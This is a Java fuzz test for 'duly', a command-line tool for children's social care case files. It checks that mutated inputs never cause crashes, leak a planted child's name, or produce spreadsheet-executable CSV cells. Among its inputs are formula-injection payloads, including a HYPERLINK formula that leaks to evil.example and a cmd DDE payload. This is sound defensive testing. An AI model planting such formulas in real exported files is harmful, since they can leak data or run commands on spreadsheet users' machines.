package org.duly.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.function.BiConsumer;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.duly.timescales.calendar.EnglandAndWales;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A seeded fuzz test of the command line, in process through {@link Duly#run}: hundreds of
 * adversarial case files (the example cases, each mutated: a child's name planted in odd shapes and
 * places, formulas for ids, extreme dates, wrong types, long strings, deep nesting, broken bytes, and
 * the reproducers of the reliability findings) through {@code validate}, {@code schedule} in every
 * format and {@code caseload}; hundreds of adversarial argument vectors through every command; and
 * bulk input of random bytes. A run fails the test if it exits with 3 (an internal error), prints a
 * stack trace without {@code --debug}, prints a Java class name, shows the planted name anywhere
 * (standard output, standard error, the file it wrote, in every format), writes a CSV cell a
 * spreadsheet would run as a formula, answers bulk input with a different number of lines, or takes
 * longer than {@link #SLOWEST}.
 *
 * <p>The seed is fixed, so a failure is reproducible; {@code -Dduly.fuzz.seed=N} explores others, and
 * {@code -Dduly.fuzz.report=true} prints the slowest runs.
 */
class CommandLineFuzzTest {

    /** The name planted in case files: it must never come out. */
    static final String NAME = "Zebedee Quux-Marchbanks";

    static final long SEED = Long.getLong("duly.fuzz.seed", 20_251_204L);
    static final long SLOWEST = TimeUnit.SECONDS.toMillis(10);
    static final int CASE_FILES = 500;
    static final int ARGUMENT_VECTORS = 300;
    static final int CASELOADS = 30;
    static final int BULK_INPUTS = 30;

    private static final Pattern NAME_PARTS = Pattern.compile("(?i)zebedee|quux|marchbanks");
    private static final Pattern CLASS_NAMES = Pattern.compile(
            "\\b(java|javax|jdk|sun|com\\.fasterxml|picocli|org\\.duly)\\.[a-z]|\\b[A-Z][A-Za-z]*(Exception|Error)\\b"
                    + "|StreamReadConstraints");
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> FORMATS = List.of("table", "csv", "json", "ics", "html");
    private static final List<String> CASELOAD_FORMATS = List.of("table", "csv", "html");

    @TempDir
    static Path temp;

    private static final List<Path> corpus = new ArrayList<>();
    private static final List<String> failures = new ArrayList<>();
    private static int runs;
    private static final List<String> slowestRuns = new ArrayList<>();

    @BeforeEach
    void noFailuresYet() {
        failures.clear();
    }

    @BeforeAll
    static void writeTheCorpus() throws IOException {
        Random random = new Random(SEED);
        List<Path> examples;
        try (Stream<Path> files = Files.list(Path.of("../examples/cases"))) {
            examples = files.filter(file -> file.toString().endsWith(".json")).sorted().toList();
        }
        Path directory = Files.createDirectories(temp.resolve("corpus"));
        int index = 0;
        for (Map.Entry<String, String> reproducer : Reproducers.files().entrySet()) {
            corpus.add(Files.writeString(directory.resolve(String.format("%04d-%s.json", index++, reproducer.getKey())),
                    reproducer.getValue()));
        }
        while (corpus.size() < CASE_FILES) {
            Path example = examples.get(random.nextInt(examples.size()));
            Mutated mutated = Mutations.mutate(Files.readString(example), random);
            corpus.add(Files.write(directory.resolve(String.format("%04d-%s.json", index++, mutated.label())), mutated.bytes()));
        }
    }

    /** With {@code -Dduly.fuzz.report=true}, prints the seed, the number of runs and the slowest runs. */
    @AfterAll
    static void report() {
        if (!Boolean.getBoolean("duly.fuzz.report")) {
            return;
        }
        System.out.printf("CommandLineFuzzTest: seed %d, %d runs; the slowest:%n%s%n", SEED, runs,
                slowestRuns.stream().sorted(java.util.Comparator.reverseOrder()).limit(8)
                        .collect(Collectors.joining("\n")));
    }

    @Test
    @Timeout(value = 300, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void case_files_through_validate_and_schedule_in_every_format() throws IOException {
        Random random = new Random(SEED + 1);
        for (Path file : corpus) {
            boolean debug = random.nextInt(5) == 0;
            run(withDebug(debug, "validate", file.toString()));
            String format = FORMATS.get(random.nextInt(FORMATS.size()));
            String asOf = random.nextInt(10) == 0 ? Tokens.pick(random, Tokens.DATES) : Tokens.dateInRange(random);
            if (random.nextBoolean()) {
                Path out = temp.resolve("out/" + random.nextInt(1000) + "/schedule." + format);
                run(withDebug(debug, "schedule", file.toString(), "--as-of", asOf, "--format", format, "--out", out.toString()));
                checkWritten(out);
            } else {
                run(withDebug(debug, "schedule", file.toString(), "--as-of", asOf, "--format", format));
            }
        }
        assertNoFailures();
    }

    @Test
    @Timeout(value = 300, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void caseloads_of_good_and_bad_files_in_every_format() throws IOException {
        Random random = new Random(SEED + 2);
        for (int i = 0; i < CASELOADS; i++) {
            Path directory = Files.createDirectories(temp.resolve("caseload-" + i));
            List<Path> chosen = new ArrayList<>();
            for (int j = random.nextInt(12) + 1; j > 0; j--) {
                Path file = corpus.get(random.nextInt(corpus.size()));
                Path copy = Files.copy(file, directory.resolve(file.getFileName()), StandardCopyOption.REPLACE_EXISTING);
                chosen.add(copy);
            }
            String format = CASELOAD_FORMATS.get(random.nextInt(CASELOAD_FORMATS.size()));
            Path out = temp.resolve("caseload-out/" + i + "/caseload." + format);
            List<String> args = new ArrayList<>(List.of("caseload", random.nextBoolean() ? directory.toString()
                    : chosen.get(0).toString(), "--as-of", Tokens.dateInRange(random), "--format", format));
            if (random.nextBoolean()) {
                args.addAll(List.of("--out", out.toString()));
            }
            run(withDebug(random.nextInt(4) == 0, args.toArray(String[]::new)));
            checkWritten(out);
        }
        assertNoFailures();
    }

    @Test
    @Timeout(value = 300, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void adversarial_argument_vectors_through_every_command() throws IOException {
        Random random = new Random(SEED + 3);
        for (int i = 0; i < ARGUMENT_VECTORS; i++) {
            List<String> args = Tokens.vector(random, corpus, temp.resolve("args/" + i));
            run(args.toArray(String[]::new));
        }
        assertNoFailures();
    }

    @Test
    @Timeout(value = 300, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void bulk_input_keeps_one_answer_per_line_whatever_the_bytes() {
        Random random = new Random(SEED + 4);
        for (int i = 0; i < BULK_INPUTS; i++) {
            ByteArrayOutputStream input = new ByteArrayOutputStream();
            List<String> expected = new ArrayList<>();
            for (int line = random.nextInt(200); line > 0; line--) {
                String ending = switch (random.nextInt(4)) {
                    case 0 -> "\r\n";
                    default -> "\n";
                };
                switch (random.nextInt(5)) {
                    case 0 -> {
                        LocalDate date = LocalDate.parse(Tokens.dateInRange(random));
                        int n = random.nextInt(200) - 100;
                        input.writeBytes((date + " " + n + ending).getBytes(StandardCharsets.UTF_8));
                        expected.add(WorkdaysCommand.resultLine(EnglandAndWales.calendar().explainShift(date, n)));
                    }
                    case 1 -> {
                        byte[] noise = new byte[random.nextInt(300)];
                        random.nextBytes(noise);
                        for (int b = 0; b < noise.length; b++) {
                            noise[b] = noise[b] == '\n' ? (byte) '\r' : noise[b];
                        }
                        input.writeBytes(noise);
                        input.writeBytes(ending.getBytes(StandardCharsets.US_ASCII));
                        expected.add(null);
                    }
                    default -> {
                        String text = String.join(" ", Tokens.pick(random, Tokens.DATES), Tokens.pick(random, Tokens.NUMBERS));
                        input.writeBytes((text.replace('\n', ' ') + ending).getBytes(StandardCharsets.UTF_8));
                        expected.add(null);
                    }
                }
            }
            long started = System.nanoTime();
            CommandLineRun run = CommandLineRun.dulyWithBytes(input.toByteArray(), "workdays", "shift", "--stdin");
            List<String> answers = run.out().lines().toList();
            String where = "bulk input " + i + " (seed " + SEED + ")";
            if (answers.size() != expected.size()) {
                failures.add(where + ": " + answers.size() + " answers for " + expected.size() + " lines");
            } else {
                for (int line = 0; line < expected.size(); line++) {
                    if (expected.get(line) != null && !expected.get(line).equals(answers.get(line))) {
                        failures.add(where + ", line " + (line + 1) + ": answered " + answers.get(line) + ", not " + expected.get(line));
                    }
                }
            }
            run.err().lines().filter(line -> line.length() > 300).findFirst()
                    .ifPresent(line -> failures.add(where + ": a message of " + line.length() + " characters"));
            verdict(List.of("workdays", "shift", "--stdin", where), run, started);
        }
        assertNoFailures();
    }

    private static String[] withDebug(boolean debug, String... args) {
        if (!debug) {
            return args;
        }
        String[] withDebug = Arrays.copyOf(args, args.length + 1);
        withDebug[args.length] = "--debug";
        return withDebug;
    }

    private static void run(String[] args) {
        long started = System.nanoTime();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int exitCode = Duly.run(args, new ByteArrayInputStream(new byte[0]), out, err);
        verdict(Arrays.asList(args), new CommandLineRun(exitCode, out.toString(StandardCharsets.UTF_8),
                err.toString(StandardCharsets.UTF_8)), started);
    }

    private static void checkWritten(Path out) throws IOException {
        if (Files.exists(out)) {
            String format = out.getFileName().toString().replaceAll(".*\\.", "");
            checkOutput(out + " (written, seed " + SEED + ")", Files.readString(out, StandardCharsets.UTF_8), format);
        }
    }

    private static synchronized void verdict(List<String> args, CommandLineRun run, long started) {
        runs++;
        long millis = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - started);
        slowestRuns.add(String.format("%6d ms  %s", millis, args.stream()
                .map(arg -> arg.length() > 60 ? arg.substring(0, 60) + "…" : arg).collect(Collectors.joining(" "))));
        String where = "duly " + args.stream().map(arg -> arg.length() > 80 ? arg.substring(0, 80) + "…" : arg)
                .collect(Collectors.joining(" ")) + " (seed " + SEED + ")";
        if (millis > SLOWEST) {
            failures.add(where + ": took " + millis + " ms");
        }
        if (run.exitCode() < 0 || run.exitCode() > 2) {
            failures.add(where + ": exit code " + run.exitCode() + "\n" + run.err());
        }
        boolean debug = args.contains("--debug");
        String err = run.err();
        if (!debug && err.contains("\tat ")) {
            failures.add(where + ": a stack trace without --debug\n" + run.err());
        }
        if (NAME_PARTS.matcher(err).find()) {
            failures.add(where + ": the planted name on standard error\n" + run.err());
        }
        if (!debug && CLASS_NAMES.matcher(err).find()) {
            failures.add(where + ": a Java class name on standard error\n" + run.err());
        }
        String format = formatOf(args);
        checkOutput(where, run.out(), format);
    }

    private static void checkOutput(String where, String out, String format) {
        if (NAME_PARTS.matcher(out).find()) {
            failures.add(where + ": the planted name in the output");
        }
        if ("csv".equals(format) && !out.isEmpty()) {
            try {
                for (Map<String, String> row : CsvInjectionTest.readBack(out)) {
                    row.values().stream().filter(CsvInjectionTest::startsLikeFormula).findFirst()
                            .ifPresent(cell -> failures.add(where + ": a CSV cell a spreadsheet would run: " + cell));
                }
            } catch (IOException | RuntimeException e) {
                failures.add(where + ": CSV that does not read back (" + e.getClass().getSimpleName() + ")");
            }
        }
    }

    private static String formatOf(List<String> args) {
        int at = args.indexOf("--format");
        if (at >= 0 && at + 1 < args.size()) {
            return args.get(at + 1).toLowerCase(Locale.ROOT);
        }
        return args.contains("rules") ? "md" : "table";
    }

    private static synchronized void assertNoFailures() {
        assertThat(failures).as("%d failures in %d runs; the first ones", failures.size(), runs)
                .satisfies(list -> assertThat(list.subList(0, Math.min(list.size(), 5))).isEmpty());
    }

    /** A mutated case file and what was done to it. */
    record Mutated(String label, byte[] bytes) {
    }

    /** The named reproducers of the reliability findings (../shared/findings/reliability.md). */
    static final class Reproducers {

        private Reproducers() {
        }

        static Map<String, String> files() {
            Map<String, String> files = new java.util.LinkedHashMap<>();
            files.put("d2-name-as-list", """
                    {"child": {"id": "C-1", "dateOfBirth": "2015-01-01", "name": ["Zebedee Quux-Marchbanks"]}, "events": []}""");
            files.put("d2-name-as-date", """
                    {"child": {"id": "C-1", "dateOfBirth": "Zebedee Quux-Marchbanks"}, "events": []}""");
            files.put("d2-name-as-key-and-type", """
                    {"child": {"id": "C", "dateOfBirth": "2015-01-01", "Zebedee Quux-Marchbanks": true},
                     "events": [{"type": "Zebedee Quux-Marchbanks", "date": "2024-01-01"}]}""");
            files.put("d2-name-as-object", """
                    {"child": {"id": "C-1", "dateOfBirth": "2015-01-01", "name": {"first": "Zebedee", "last": "Quux-Marchbanks"}},
                     "events": []}""");
            files.put("d2-complainant", """
                    {"complaint": {"id": "SC-1", "complainantName": ["Zebedee Quux-Marchbanks"]},
                     "events": [{"type": "complaintReceived", "date": "2024-01-02", "stage": 1}]}""");
            files.put("d3-hyperlink-id", """
                    {"child": {"id": "=HYPERLINK(\\"http://evil.example/?leak\\",\\"Open\\")", "dateOfBirth": "2015-01-01"},
                     "events": [{"type": "referral", "date": "2024-01-10"}]}""");
            files.put("d3-formula-id", """
                    {"child": {"id": "=1+1", "dateOfBirth": "2015-01-01"}, "events": [{"type": "referral", "date": "2024-01-10"}]}""");
            files.put("d4-extreme-birth", """
                    {"child": {"id": "C", "dateOfBirth": "+999999999-12-31"}, "events": [{"type": "becameLookedAfter",
                     "date": "2024-01-01", "legalStatus": "section20"}]}""");
            files.put("d4-years", """
                    {"child": {"id": "C", "dateOfBirth": "0000-01-01"}, "events": [{"type": "referral", "date": "-0001-01-01"},
                     {"type": "referral", "date": "9999-12-31"}, {"type": "referral", "date": "+10000-01-01"}]}""");
            files.put("d7-long-type", "{\"child\": {\"id\": \"T\", \"dateOfBirth\": \"2015-01-01\"}, \"events\": [{\"type\": \""
                    + "z".repeat(100_000) + "\", \"date\": \"2024-01-01\"}]}");
            files.put("d11-deep-nesting", "{\"child\": {\"id\": \"C\", \"dateOfBirth\": \"2015-01-01\", \"extra\": "
                    + "[".repeat(10_000) + "]".repeat(10_000) + "}, \"events\": []}");
            files.put("p13-bom", "\uFEFF{\"child\": {\"id\": \"C\", \"dateOfBirth\": \"2015-01-01\"}, \"events\": []}");
            files.put("empty", "");
            files.put("numbers", """
                    {"child": {"id": "C", "dateOfBirth": "2015-01-01"}, "events": [{"type": "conferenceHeld", "date": "2024-01-01",
                     "kind": 1e309}, {"type": "visit", "date": "2024-01-02", "childSeen": NaN}]}""");
            return files;
        }
    }

    /** Mutations of a case file: the findings' kinds, several at a time, a name planted in most files. */
    static final class Mutations {

        private static final List<String> ODD_DATES = List.of("+999999999-12-31", "0000-01-01", "-0001-01-01", "9999-12-31",
                "1900-01-01", "1977-12-31", "2199-12-31", "2200-01-01", " 2024-01-01", "2024-02-30", "2024-1-1", "31/12/2023",
                "2024-01-01T25:00", "");
        private static final List<String> FORMULAS = List.of("=1+1", "@SUM(1)", "+1", "-1+1", "\t=1", "\r=1",
                "=HYPERLINK(\"http://evil.example\")", "-", "=cmd|' /C calc'!A0");

        private Mutations() {
        }

        static Mutated mutate(String json, Random random) throws IOException {
            ObjectNode root = (ObjectNode) JSON.readTree(json);
            List<String> labels = new ArrayList<>();
            if (random.nextInt(10) < 7) {
                labels.add(plantName(root, random));
            }
            for (int i = random.nextInt(3); i >= 0; i--) {
                labels.add(mutateTree(root, random));
            }
            String text = JSON.writeValueAsString(root);
            byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
            if (random.nextInt(4) == 0) {
                Mutated broken = breakBytes(bytes, random);
                labels.add(broken.label());
                bytes = broken.bytes();
            }
            return new Mutated(String.join("+", labels), bytes);
        }

        private static ObjectNode subject(ObjectNode root) {
            for (String field : List.of("child", "complaint", "worker")) {
                if (root.get(field) instanceof ObjectNode subject) {
                    return subject;
                }
            }
            return root.putObject("child");
        }

        private static String nameField(ObjectNode root) {
            return root.has("complaint") ? "complainantName" : "name";
        }

        private static List<ObjectNode> events(ObjectNode root) {
            List<ObjectNode> events = new ArrayList<>();
            if (root.get("events") instanceof ArrayNode array) {
                array.forEach(event -> {
                    if (event instanceof ObjectNode object) {
                        events.add(object);
                    }
                });
            }
            return events;
        }

        private static ObjectNode anEvent(ObjectNode root, Random random) {
            List<ObjectNode> events = events(root);
            return events.isEmpty() ? subject(root) : events.get(random.nextInt(events.size()));
        }

        private static String aField(ObjectNode node, Random random) {
            List<String> fields = new ArrayList<>();
            node.fieldNames().forEachRemaining(fields::add);
            return fields.isEmpty() ? "type" : fields.get(random.nextInt(fields.size()));
        }

        private static JsonNode nameShaped(Random random) {
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            return switch (random.nextInt(5)) {
                case 0 -> nodes.textNode(NAME);
                case 1 -> nodes.arrayNode().add(NAME);
                case 2 -> nodes.objectNode().put("first", "Zebedee").put("last", "Quux-Marchbanks");
                case 3 -> nodes.arrayNode().add(nodes.objectNode().put("name", NAME));
                default -> nodes.textNode("  " + NAME.toUpperCase(Locale.ROOT) + "\n");
            };
        }

        private static String plantName(ObjectNode root, Random random) {
            ObjectNode subject = subject(root);
            switch (random.nextInt(9)) {
                case 0 -> subject.set(nameField(root), nameShaped(random));
                case 1 -> subject.put(nameField(root), NAME);
                case 2 -> subject.put(NAME, true);
                case 3 -> anEvent(root, random).put("type", NAME);
                case 4 -> anEvent(root, random).set(aField(anEvent(root, random), random), nameShaped(random));
                case 5 -> subject.put(random.nextBoolean() ? "dateOfBirth" : "expectedDateOfDelivery", NAME);
                case 6 -> anEvent(root, random).put(random.nextBoolean() ? "description" : "notes", NAME);
                case 7 -> ((ArrayNode) root.withArray("events")).addObject().put("type", "courtDirectionMade")
                        .put("date", "2024-01-02").put("description", NAME);
                default -> root.set(NAME, nameShaped(random));
            }
            return "name";
        }

        private static String mutateTree(ObjectNode root, Random random) {
            ObjectNode subject = subject(root);
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            switch (random.nextInt(10)) {
                case 0 -> {
                    subject.put("id", FORMULAS.get(random.nextInt(FORMULAS.size())));
                    return "formula-id";
                }
                case 1 -> {
                    ObjectNode event = anEvent(root, random);
                    event.put(event.has("dateTime") ? "dateTime" : "date", ODD_DATES.get(random.nextInt(ODD_DATES.size())));
                    return "odd-date";
                }
                case 2 -> {
                    ObjectNode event = anEvent(root, random);
                    JsonNode value = switch (random.nextInt(6)) {
                        case 0 -> nodes.numberNode(random.nextLong());
                        case 1 -> nodes.booleanNode(random.nextBoolean());
                        case 2 -> nodes.nullNode();
                        case 3 -> nodes.arrayNode().add(1).add("two");
                        case 4 -> nodes.objectNode().put("a", 1);
                        default -> nodes.textNode("true");
                    };
                    event.set(aField(event, random), value);
                    return "wrong-type";
                }
                case 3 -> {
                    ObjectNode event = anEvent(root, random);
                    event.remove(aField(event, random));
                    return "missing-field";
                }
                case 4 -> {
                    List<ObjectNode> events = events(root);
                    ArrayNode array = root.putArray("events");
                    List<ObjectNode> shuffled = new ArrayList<>(events);
                    java.util.Collections.shuffle(shuffled, random);
                    shuffled.forEach(array::add);
                    if (!events.isEmpty()) {
                        array.add(events.get(0).deepCopy());
                    }
                    return "out-of-order";
                }
                case 5 -> {
                    anEvent(root, random).put(random.nextBoolean() ? "type" : aField(anEvent(root, random), random),
                            "q".repeat(1 + random.nextInt(5_000)));
                    return "long-string";
                }
                case 6 -> {
                    subject.put("id", random.nextBoolean() ? "" : "id\u0000\u001b[31m\u202e" + random.nextInt());
                    return "odd-id";
                }
                case 7 -> {
                    subject.put(random.nextBoolean() ? "dateOfBirth" : "expectedDateOfDelivery",
                            ODD_DATES.get(random.nextInt(ODD_DATES.size())));
                    return "odd-birth";
                }
                case 8 -> {
                    root.remove(random.nextBoolean() ? "events" : "child");
                    return "no-part";
                }
                default -> {
                    // Many ordinary events; a long value in each would test the reader's length limits (D7), not this.
                    ObjectNode event = anEvent(root, random);
                    if (event.toString().length() < 1_000) {
                        for (int i = 0; i < 100; i++) {
                            ((ArrayNode) root.withArray("events")).add(event.deepCopy());
                        }
                    }
                    return "many-events";
                }
            }
        }

        private static Mutated breakBytes(byte[] bytes, Random random) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            int at = bytes.length == 0 ? 0 : random.nextInt(bytes.length);
            switch (random.nextInt(6)) {
                case 0 -> {
                    out.write(bytes, 0, at);
                    return new Mutated("truncated", out.toByteArray());
                }
                case 1 -> {
                    byte[] copy = bytes.clone();
                    for (int i = 0; i < 1 + random.nextInt(5) && copy.length > 0; i++) {
                        copy[random.nextInt(copy.length)] = (byte) random.nextInt(256);
                    }
                    return new Mutated("flipped", copy);
                }
                case 2 -> {
                    out.writeBytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
                    out.writeBytes(bytes);
                    return new Mutated("bom", out.toByteArray());
                }
                case 3 -> {
                    out.write(bytes, 0, at);
                    out.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, '\r'});
                    out.write(bytes, at, bytes.length - at);
                    return new Mutated("invalid-utf8", out.toByteArray());
                }
                case 4 -> {
                    out.writeBytes(bytes);
                    out.writeBytes(" // trailing\n{}".getBytes(StandardCharsets.UTF_8));
                    return new Mutated("trailing", out.toByteArray());
                }
                default -> {
                    String text = new String(bytes, StandardCharsets.UTF_8);
                    return new Mutated("duplicate-key", text.replaceFirst("\\{", "{\"events\": [], ")
                            .getBytes(StandardCharsets.UTF_8));
                }
            }
        }
    }

    /** Argument vectors: every command, with adversarial values for its options and parameters. */
    static final class Tokens {

        static final List<String> DATES = List.of("2024-03-27", "2024-02-30", "2023-02-29", "2024-13-01", "1977-12-31",
                "1978-01-01", "2199-12-31", "2200-01-01", "+999999999-12-31", "-999999999-01-01", "0000-01-01", "-0001-01-01",
                "9999-12-31", "01/03/2025", "2024-3-5", " 2024-03-27", "2024-03-27 ", "", "today", "٢٠٢٤-٠٣-٢٧",
                "2024-03-27T10:00", "x".repeat(100_000), "2024-03-27\n5", "\u001b[2J");
        static final List<String> NUMBERS = List.of("5", "-2", "0", "2147483647", "-2147483648", "2147483648",
                "1000000000000", "٥", "5x", "", "+3", "--5", "1e3", "0x10", "9".repeat(10_000), "50000", "-50000");
        static final List<String> ODD = List.of("", "-", "--", "---", "-h", "--help", "-V", "--version", "=1+1",
                "--as-of", "--format", "--policy", "--debug", "--stdin", "help", "\u0000", "\u202e", "/dev/null",
                "nowhere.json", "--as-of=2024-01-01", "--format=CSV", "-x", "@file", "λ".repeat(1_000),
                "x".repeat(1_000_000));
        static final List<String> COMMANDS = List.of("schedule", "caseload", "validate", "rules", "handbook", "workdays",
                "holidays", "schema", "generate", "help", "frobnicate", "");

        private Tokens() {
        }

        static String pick(Random random, List<String> tokens) {
            return tokens.get(random.nextInt(tokens.size()));
        }

        static String dateInRange(Random random) {
            return LocalDate.of(1980 + random.nextInt(200), 1, 1).plusDays(random.nextInt(365)).toString();
        }

        static List<String> vector(Random random, List<Path> corpus, Path out) {
            List<String> args = new ArrayList<>();
            String file = corpus.get(random.nextInt(corpus.size())).toString();
            BiConsumer<String, List<String>> maybe = (option, values) -> {
                if (random.nextBoolean()) {
                    args.add(option);
                    args.add(pick(random, values));
                }
            };
            switch (random.nextInt(12)) {
                case 0 -> {
                    args.addAll(List.of("schedule", random.nextBoolean() ? file : pick(random, ODD)));
                    maybe.accept("--as-of", DATES);
                    maybe.accept("--format", List.of("table", "CSV", "Json", "ics", "html", "pdf", "", "TABLE "));
                    maybe.accept("--policy", List.of("derbyshire", "DERBYSHIRE", " derbyshire ", "derby", "", "\u0000"));
                    if (random.nextInt(4) == 0) {
                        args.addAll(List.of("--out", out.resolve("s.txt").toString()));
                    }
                }
                case 1 -> {
                    args.addAll(List.of("caseload", file, random.nextBoolean() ? file : pick(random, ODD)));
                    maybe.accept("--as-of", DATES);
                    maybe.accept("--format", List.of("table", "csv", "html", "json", "ics"));
                }
                case 2 -> args.addAll(List.of("validate", random.nextBoolean() ? file : pick(random, ODD), pick(random, ODD)));
                case 3 -> {
                    args.addAll(List.of("workdays", pick(random, List.of("shift", "between", "explain", "frob")),
                            pick(random, DATES)));
                    args.add(random.nextBoolean() ? pick(random, NUMBERS) : pick(random, DATES));
                }
                case 4 -> args.addAll(List.of("workdays", "explain", dateInRange(random), pick(random, NUMBERS)));
                case 5 -> args.addAll(List.of("holidays", pick(random, NUMBERS)));
                case 6 -> {
                    args.add("rules");
                    maybe.accept("--format", List.of("md", "csv", "json", "CSV", "pdf"));
                    maybe.accept("--policy", List.of("derbyshire", "nowhere"));
                }
                case 7 -> args.addAll(List.of("generate", "--cases", pick(random, List.of("0", "1", "2", "-1", "100001", "x")),
                        "--seed", pick(random, NUMBERS), "--out", out.resolve("generated").toString()));
                case 8 -> args.addAll(List.of("handbook", "--policy", pick(random, List.of("derbyshire", "nowhere")),
                        "--out", out.resolve(random.nextBoolean() ? "handbook" : "").toString()));
                case 9 -> args.addAll(List.of(pick(random, COMMANDS), pick(random, ODD)));
                case 10 -> {
                    for (int i = random.nextInt(6); i >= 0; i--) {
                        args.add(pick(random, random.nextBoolean() ? ODD : random.nextBoolean() ? DATES : NUMBERS));
                    }
                }
                default -> {
                    args.add(pick(random, COMMANDS));
                    for (int i = random.nextInt(4); i >= 0; i--) {
                        args.add(pick(random, random.nextBoolean() ? ODD : DATES));
                    }
                }
            }
            // The command line must never write outside the test's folder: "--out" only ever comes with a path in it.
            for (int i = 0; i < args.size(); i++) {
                if (args.get(i).equals("--out") && (i + 1 >= args.size() || !args.get(i + 1).startsWith(out.toString()))) {
                    args.set(i, "--debug");
                }
            }
            if (random.nextInt(6) == 0) {
                args.add("--debug");
            }
            return args;
        }
    }
}
